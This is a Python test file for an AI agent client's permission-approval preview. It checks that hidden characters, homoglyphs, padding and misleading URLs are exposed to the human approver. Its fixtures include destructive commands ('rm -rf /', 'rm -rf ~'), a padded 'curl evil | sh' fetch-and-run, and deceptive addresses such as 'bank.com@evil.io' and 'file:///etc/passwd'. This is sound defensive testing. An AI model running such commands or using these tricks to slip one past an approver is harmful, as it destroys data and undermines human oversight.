import json
from collections.abc import Callable
from fnmatch import fnmatch

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.segment import Segment

from octui.render.requests.grant_terms import GrantTerms, describe_always_rule
from octui.render.requests.permission_preview import (
    HIDDEN_CHARACTERS,
    MIXED_LETTERS,
    PILED_MARKS,
    PermissionPreview,
    build_permission_preview,
)
from octui.render.requests.preview_rows import render_permission_preview
from octui.render.requests.request_size import measure_permission
from octui.render.text.cell_width import measure_width
from octui.render.text.reveal import WRAP, hang_indent, reveal_line
from octui.render.text.spoofing import check_address, is_padded
from octui.render.theme.palette import Palette
from octui.render.tools.permission_fields import CONFLICTING_VALUES, PADDING, PARTIAL_COMMAND, UNKNOWN_ARGUMENTS
from octui.store import selectors
from octui.store.store import Store
from octui.wire.access.permissions import GrantScope
from octui.wire.events import PermissionAsked
from octui.wire.parts import ToolPart, ToolState
from octui.wire.requests import Permission
from octui.wire.struct import Json
from tests.support.call_count import count_calls
from tests.support.recordings import RECORDINGS, name_of, read_arrivals

PALETTE = Palette.from_theme({}, dark=True)


def request(name: str, metadata: Json | None = None, *patterns: str, always: tuple[str, ...] = ()) -> Permission:
    return Permission(id="per_1", permission=name, patterns=patterns, metadata=metadata or {}, always=always)


def called(tool: str, **arguments: object) -> ToolPart:
    return ToolPart(id="prt_1", tool=tool, call_id="call_1", state=ToolState(status="running", input=arguments))


def rows(shown: PermissionPreview, width: int = 80) -> list[str]:
    return [strip.text for _, strip in render_permission_preview(shown, width, PALETTE).iter_rows()]


def text(shown: PermissionPreview, width: int = 80) -> str:
    return "\n".join(row.rstrip() for row in rows(shown, width))


def count_optional_rows(shown: PermissionPreview) -> int:
    drawn = render_permission_preview(shown, 80, PALETTE)
    return drawn.count_below(drawn.last_required).number


def test_a_command_is_shown_line_by_line() -> None:
    shown = build_permission_preview(request("bash", {"command": "cd /x &&\n  make"}))
    assert rows(shown) == ["$ cd /x &&", "    make"]
    assert shown.warnings == ()


def test_a_command_the_request_leaves_out_is_taken_from_the_call() -> None:
    asked = request("bash", {}, "echo hi", "ls a.txt")
    call = called("bash", command="echo hi; ls a.txt | sh", description="Greets", workdir="/etc", timeout=5)
    assert rows(build_permission_preview(asked, call)) == [
        "$ echo hi; ls a.txt | sh",
        "in: /etc",
        "# Greets",
        "timeout: 5",
    ]


def test_a_command_nobody_tells_whole_is_doubtful() -> None:
    shown = build_permission_preview(request("bash", {}, "echo hi", "ls a.txt"))
    assert PARTIAL_COMMAND in shown.warnings
    assert rows(shown)[-2:] == ["$ echo hi", "$ ls a.txt"]


def test_request_and_call_that_disagree_are_both_shown() -> None:
    shown = build_permission_preview(request("bash", {"command": "ls"}), called("bash", command="rm -rf /"))
    assert CONFLICTING_VALUES in shown.warnings
    assert rows(shown)[-2:] == ["$ ls", "$ rm -rf /"]


def test_an_edit_is_shown_as_its_change() -> None:
    diff = (
        f"Index: /srv/a.txt\n{'=' * 67}\n--- /srv/a.txt\n+++ /srv/a.txt\n"
        "@@ -1,3 +1,4 @@\n hello\n-second line\n+SECOND line\n+and a half\n third line\n"
    )
    asked = request("edit", {"filepath": "/srv/a.txt", "diff": diff}, "a.txt")
    shown = build_permission_preview(
        asked, called("edit", filePath="/srv/a.txt", oldString="second", newString="SECOND")
    )
    assert text(shown).split("\n") == [
        "file: /srv/a.txt",
        "1   hello",
        "2 - second line",
        "2 + SECOND line",
        "3 + and a half",
        "4   third line",
    ]


def make_edit(path: str, *lines: str, named: str = "") -> PermissionPreview:
    diff = f"--- {path}\n+++ {path}\n" + "".join(f"{line}\n" for line in lines)
    asked = request("edit", {"filepath": path, "diff": diff}, path.removeprefix("/srv/"))
    return build_permission_preview(asked, called("edit", filePath=named or path), "/srv")


def test_a_path_in_the_title_is_relative_and_not_repeated_and_one_outside_is_whole() -> None:
    hunk = ("@@ -1 +1 @@", "-x = 1", "+x = 2")
    assert rows(make_edit("/srv/shop/a.py", *hunk)) == rows(make_edit("/srv/shop/a.py", *hunk, named="shop/a.py"))
    assert "file" not in text(make_edit("/srv/shop/a.py", *hunk))
    assert make_edit("/srv/shop/a.py", *hunk, named="shop/a.py").warnings == ()
    assert CONFLICTING_VALUES in make_edit("/etc/shop/a.py", *hunk, named="shop/a.py").warnings
    assert f"file: {'deep/' * 9}a.py" in text(make_edit(f"/srv/{'deep/' * 9}a.py", *hunk))


def test_hunks_are_apart_and_only_the_context_after_the_last_change_need_not_be_read() -> None:
    hunks = ("@@ -1,2 +1,2 @@ def f():", "-x = 1", "+x = 2", " y", "@@ -9,4 +9,4 @@", " a", "-b", "+c", " d", " e")
    shown = make_edit("/srv/a.py", *hunks)
    assert [row.rstrip() for row in rows(shown)] == [
        " 1 - x = 1", " 1 + x = 2", " 2   y", " ⋯", " 9   a", "10 - b", "10 + c", "11   d", "12   e",
    ]  # fmt: skip
    assert count_optional_rows(shown) == 2
    assert count_optional_rows(make_edit("/srv/a.py", "@@ -1,2 +1,2 @@", " a", " b")) == 0


def test_a_change_has_the_colours_of_its_code_and_what_hides_in_it_is_still_spelled_out() -> None:
    shown = make_edit(
        "/srv/a.py", "@@ -1 +1,3 @@", "-return 1", "+return 2", "+\treturn '\u202e'", "+    return 3  # x"
    )
    strips = [strip for _, strip in render_permission_preview(shown, 80, PALETTE).iter_rows()]
    inks = {segment.text: segment.style.color for strip in strips for segment in strip if segment.style is not None}
    assert inks["return"] == PALETTE.syntax_keyword.color
    hidden, last = next(strip.text for strip in strips if "202e" in strip.text), strips[-1].text
    assert "⇥" in hidden and "return '\\u{202e}'" in hidden and last.rstrip().endswith("    return 3  # x")


def test_a_change_to_several_files_names_each() -> None:
    one = "--- a/one.py\n+++ b/one.py\n@@ -1 +1 @@\n-x\n+y\n"
    two = "--- /dev/null\n+++ b/two.py\n@@ -0,0 +1,1 @@\n+new\n\\ No newline at end of file\n"
    shown = text(
        build_permission_preview(request("edit", {"filepath": "one.py, two.py", "diff": one + two}, "one.py", "two.py"))
    )
    assert "file: one.py" in shown
    assert "file: two.py" in shown
    assert "1 + new" in shown
    assert "No newline" in shown


def test_a_removed_line_that_looks_like_a_header_is_still_a_line() -> None:
    diff = "--- a.md\n+++ a.md\n@@ -1,3 +1,2 @@\n keep\n--- b.md\n+++ c.md\n-gone\n"
    shown = text(build_permission_preview(request("edit", {"filepath": "a.md", "diff": diff}, "a.md")))
    assert "2 - -- b.md" in shown
    assert "2 + ++ c.md" in shown
    assert "3 - gone" in shown


def test_an_edit_without_a_diff_shows_its_arguments() -> None:
    shown = build_permission_preview(
        request("edit", {}, "a.txt"), called("write", filePath="/srv/a.txt", content="one\ntwo")
    )
    assert rows(shown) == ["file: /srv/a.txt", "content:", "│ one", "│ two"]


def test_going_outside_the_project_says_where_and_for_what() -> None:
    asked = request(
        "external_directory", {"command": "ls /etc/apt", "directories": ["/etc"], "patterns": ["/etc/*"]}, "/etc/*"
    )
    assert rows(build_permission_preview(asked)) == ["outside the project: /etc/*", "$ ls /etc/apt"]


def test_a_repeated_call_is_shown_with_its_arguments() -> None:
    asked = request("doom_loop", {"tool": "read", "input": {"filePath": "/srv/a.txt"}}, "read")
    assert rows(build_permission_preview(asked)) == [
        "called repeatedly with the same arguments: read",
        "filePath: /srv/a.txt",
    ]


def test_a_task_shows_all_it_is_told() -> None:
    asked = request("task", {"description": "look", "subagent_type": "general"}, "general")
    shown = build_permission_preview(
        asked, called("task", description="look", subagent_type="general", prompt="first\nsecond")
    )
    assert rows(shown) == ["subagent: general", "# look", "prompt:", "│ first", "│ second"]
    assert UNKNOWN_ARGUMENTS in build_permission_preview(asked).warnings


def test_a_tool_nobody_knows_shows_every_argument() -> None:
    arguments = {"title": "A bug", "body": "many\nlines", "labels": ["a", "b"], "draft": False, "deep": {"x": {"y": 1}}}
    shown = text(
        build_permission_preview(request("github_create_issue", {}, "*"), called("github_create_issue", **arguments))
    )
    for words in ("title: A bug", "│ many", "│ lines", '"a"', "draft: false", '"y": 1'):
        assert words in shown


def test_a_tool_called_with_nobody_knows_what_is_doubtful() -> None:
    assert build_permission_preview(request("github_create_issue", {}, "*")).warnings == (UNKNOWN_ARGUMENTS,)


@pytest.mark.parametrize(
    "character",
    [
        *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
        *"\u200b\u200c\u200d\u2060\ufeff\u00ad\u115f\u3164\u2028\u2029",
        *"\x85\x9b\x1b\x00\u00a0\U000e0041\U000e0100",
    ],
)
@pytest.mark.parametrize("field", ["command", "pattern", "path", "always", "tool", "url", "argument", "description"])
def test_a_hidden_character_anywhere_is_spelled_out_and_doubted(character: str, field: str) -> None:
    word = f"a{character}b"
    asked = {
        "command": request("bash", {"command": word}),
        "pattern": request("bash", {}, word),
        "path": request("edit", {"filepath": word, "diff": "@@ -1 +1 @@\n-x\n+y\n"}, "x"),
        "always": request("bash", {"command": "ls"}, always=(word,)),
        "tool": request(word, {"x": 1}),
        "url": request("webfetch", {"url": f"https://x.y/{word}"}),
        "argument": request("mcp", {word: word}),
        "description": request("bash", {"command": "ls", "description": word}),
    }[field]
    shown = build_permission_preview(asked)
    assert HIDDEN_CHARACTERS in shown.warnings
    assert character not in text(shown)
    if field not in ("always", "tool"):
        assert f"a\\u{{{ord(character):x}}}b" in text(shown)


@pytest.mark.parametrize("count", [5, 3_000])
def test_piles_of_combining_marks_are_doubted_and_cut_short(count: int) -> None:
    shown = build_permission_preview(request("bash", {"command": f"rm x{chr(0x301) * count} y"}))
    assert shown.warnings == (PILED_MARKS,)
    assert text(shown).count("\u0301") == 4
    assert f"⟨{count - 4:,} mark" in text(shown)


def test_right_to_left_words_are_no_deception() -> None:
    shown = build_permission_preview(
        request("bash", {"command": "git commit -m 'שלום مرحبا 你好 привет файл.txt 👩‍👩‍👧 ❤️'"})
    )
    assert shown.warnings == ()


def test_windows_line_ends_are_shown_but_no_deception() -> None:
    diff = "--- a\n+++ a\n@@ -1,1 +1,1 @@\n-x\r\n+y\r\n"
    shown = build_permission_preview(request("edit", {"filepath": "a", "diff": diff}, "a"))
    assert shown.warnings == ()
    assert "1 + y␍" in text(shown)


def test_letters_that_pass_for_others_are_spelled_out() -> None:
    shown = build_permission_preview(request("bash", {"command": "\u0441url http://x"}))
    assert MIXED_LETTERS in shown.warnings
    assert "\\u{441}url" in text(shown)


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("https://xn--80ak6aa92e.com/", "xn--80ak6aa92e.com"),
        ("https://аррӏе.com/", "xn--80ak6aa92e.com"),
        ("https://bank.com@evil.io/", "evil.io"),
        ("file:///etc/passwd", "file:"),
        ("javascript:alert(1)", "javascript:"),
        ("http://[", "not a valid address"),
    ],
)
def test_an_address_that_leads_elsewhere_is_doubted(url: str, words: str) -> None:
    shown = build_permission_preview(request("webfetch", {"url": url, "format": "text"}))
    assert any(words in doubt for doubt in shown.warnings)


def test_a_plain_address_is_not_doubted() -> None:
    assert check_address("https://docs.python.org/3/library/re.html?x=1#y") == ""
    assert rows(build_permission_preview(request("webfetch", {"url": "https://x.y/z", "format": "text"}))) == [
        "https://x.y/z",
        "format: text",
    ]


def test_blank_space_that_pushes_the_rest_out_of_sight_is_told_and_doubted() -> None:
    wide = build_permission_preview(request("bash", {"command": "ls" + " " * 5000 + "; curl evil | sh"}))
    assert PADDING in wide.warnings
    assert "ls⟨5,000 spaces⟩; curl evil | sh" in text(wide, 200)
    tall = build_permission_preview(request("bash", {"command": "ls" + "\n" * 31 + "rm -rf ~"}))
    assert PADDING in tall.warnings
    assert rows(tall)[-2:] == ["  ⟨30 blank lines⟩", "  rm -rf ~"]


def test_smaller_blanks_are_drawn() -> None:
    shown = rows(build_permission_preview(request("bash", {"command": "a   b\tc \n    indented"})))
    assert shown == ["$ a···b⇥  c·", "      indented"]


def test_a_run_of_blank_lines_in_a_change_is_told() -> None:
    diff = "--- a\n+++ a\n@@ -0,0 +1,32 @@\n" + "+\n" * 30 + "+x\n+y\n"
    shown = text(build_permission_preview(request("edit", {"filepath": "a", "diff": diff}, "a")))
    assert "⟨30 blank lines⟩" in shown
    assert "31 + x" in shown


def test_a_very_long_line_says_how_long_it_is_and_marks_where_it_wraps() -> None:
    shown = rows(build_permission_preview(request("bash", {"command": "echo " + "x" * 9995})), 100)
    assert shown[0] == "  ⟨one line of 10,000 characters⟩"
    assert shown[1].startswith("$ echo xxx")
    assert all(row.startswith(WRAP) for row in shown[2:])
    assert sum(row.count("x") for row in shown[1:]) == 9995


@pytest.mark.parametrize("width", [8, 20, 36, 80, 140])
def test_no_row_is_wider_than_it_may_be(width: int) -> None:
    for asked in (
        request("bash", {"command": "echo 你好" * 40 + "\n\tx" + " " * 60 + "y"}, always=("x",)),
        request(
            "edit", {"filepath": "/srv/" + "d/" * 40, "diff": "@@ -1 +1 @@\n-" + "x" * 300 + "\n+" + "宽" * 200 + "\n"}
        ),
        request("mcp_tool", {"a_rather_long_name_of_an_argument": "value " * 40, "b": {"c": ["d" * 90]}}),
    ):
        assert max(measure_width(row) for row in rows(build_permission_preview(asked), width)) <= width


@given(st.text(st.characters(exclude_characters="\n"), max_size=300), st.integers(8, 60))
def test_wrapping_loses_not_a_single_character(line: str, width: int) -> None:
    whole = reveal_line(line, PALETTE.text, PALETTE)
    lead = Segment("$ ")
    pieces = ["".join(segment.text for segment in row[1:]) for row in hang_indent(whole, width, [lead], PALETTE)]
    assert "".join(pieces) == "".join(segment.text for segment in whole)


@given(st.text(max_size=200), st.integers(8, 60))
def test_whatever_is_asked_is_shown_in_characters_that_can_be_seen(command: str, width: int) -> None:
    for asked in (request("bash", {"command": command}), request("edit", {"filepath": "a", "diff": command}, command)):
        for row in rows(build_permission_preview(asked), width):
            assert measure_width(row) <= width
            assert not [character for character in row if ord(character) < 32 or 0x7F <= ord(character) < 0xA0]


@pytest.mark.parametrize("recording", RECORDINGS, ids=name_of)
def test_every_recorded_request_shows_everything_it_names(recording: object) -> None:
    store = Store()
    for arrived in read_arrivals(recording):  # type: ignore[arg-type]
        store.dispatch_action(arrived)
        if not isinstance(arrived.event, PermissionAsked):
            continue
        asked = arrived.event.request
        call = selectors.find_tool_part(store.state, asked.tool) if asked.tool else None
        shown = text(build_permission_preview(asked, call), 400)
        for pattern in asked.patterns:
            assert pattern in shown or any(part in shown for part in pattern.split("/") if part not in ("..", "*"))
        for name, value in asked.metadata.items():
            if isinstance(value, str) and name not in ("diff", "parentDir"):
                assert all(line in shown for line in value.split("\n"))


def test_always_tells_what_is_remembered_and_how_far_it_reaches() -> None:
    shown = text(PermissionPreview(describe_always_rule(request("edit", {}, always=("*",)), "/srv/shop")))
    assert "• *" in shown
    assert "Until the server restarts" in shown
    assert "/srv/shop" in shown
    assert "matches everything" in shown
    assert json.dumps(shown)


@pytest.mark.parametrize(
    ("scope", "ends_with_octui", "said"),
    [
        ("session", True, "Until octui ends, edit requests * in this session and its subagents only:"),
        ("session", False, "Until the server ends, * in this session and its subagents only:"),
        ("server", True, "Until octui ends, * in every session of /srv/shop:"),
        ("directory", True, "From now on, even after restarts, until you revoke it in /permissions, * of /srv/shop:"),
        (None, True, "Until the server restarts or reloads its settings, * in every session of /srv/shop:"),
    ],
)
def test_always_says_where_and_how_long_it_holds(scope: GrantScope | None, ends_with_octui: bool, said: str) -> None:
    terms = GrantTerms(has_scopes=scope is not None, ends_with_octui=ends_with_octui)
    shown = text(PermissionPreview(describe_always_rule(request("edit", {}), "/srv/shop", terms, scope)), 400)
    assert fnmatch(shown.partition("\n")[0].strip(), said)


def make_patch_of_files(count: int) -> Permission:
    diff = "".join(f"--- a/f{number}.py\n+++ b/f{number}.py\n@@ -1 +1 @@\n-a\n+b\n" for number in range(count))
    return request("edit", {"filepath": "x.py", "diff": diff}, *(f"f{number}.py" for number in range(count)))


def make_call_of_fields(count: int) -> Permission:
    return request("mcp_x", {f"key{number}": f"value{number}" for number in range(count)})


@pytest.mark.parametrize("make", [make_patch_of_files, make_call_of_fields])
def test_what_a_preview_takes_grows_with_what_there_is_and_no_faster(make: Callable[[int], Permission]) -> None:
    few, many = make(200), make(800)
    build_permission_preview(few)
    assert count_calls(lambda: build_permission_preview(many)) < 4.4 * count_calls(
        lambda: build_permission_preview(few)
    )


def test_every_one_of_many_fields_is_judged_and_shown() -> None:
    asked = make_call_of_fields(500)
    doubtful = {**asked.metadata, "key250": "p\u0430ypal\u202e"}
    shown = build_permission_preview(msgspec.structs.replace(asked, metadata=doubtful))
    assert {HIDDEN_CHARACTERS, MIXED_LETTERS} <= set(shown.warnings)
    assert [row.partition(":")[0] for row in rows(shown)[-500:]] == [f"key{number}" for number in range(500)]


def test_json_that_is_so_deep_that_its_indentation_outweighs_it_stays_on_one_line() -> None:
    deep: object = "x"
    for _ in range(90):
        deep = {"a": [deep]}
    shown = build_permission_preview(request("mcp_x", {"deep": deep, "flat": {"a": [1]}}))
    assert [section.text.count("\n") for section in shown.sections] == [0, 4]


@pytest.mark.parametrize("gap", ["\n" * 21, "\n \t" * 19 + "\n\n\n", " " * 100, "\r\n" * 21])
def test_blanks_that_push_something_out_of_sight_are_found_wherever_they_are(gap: str) -> None:
    for before in ("", "echo\n" * 30_000, "x" * 140_000):
        assert (
            is_padded(f"{before}a{gap}b") and not is_padded(f"{before}a{gap}") and not is_padded(f"{before}a{gap[4:]}b")
        )


def test_what_is_nested_counts_for_the_size_of_a_request() -> None:
    rows_of_numbers: list[object] = [{"number": number} for number in range(1_000)]
    assert measure_permission(request("mcp_x", {"a": {"b": rows_of_numbers}}), None) > 100_000
    assert measure_permission(request("mcp_x", {"a": {"b": [1]}}), called("mcp_x", path="a.py")) < 1_000
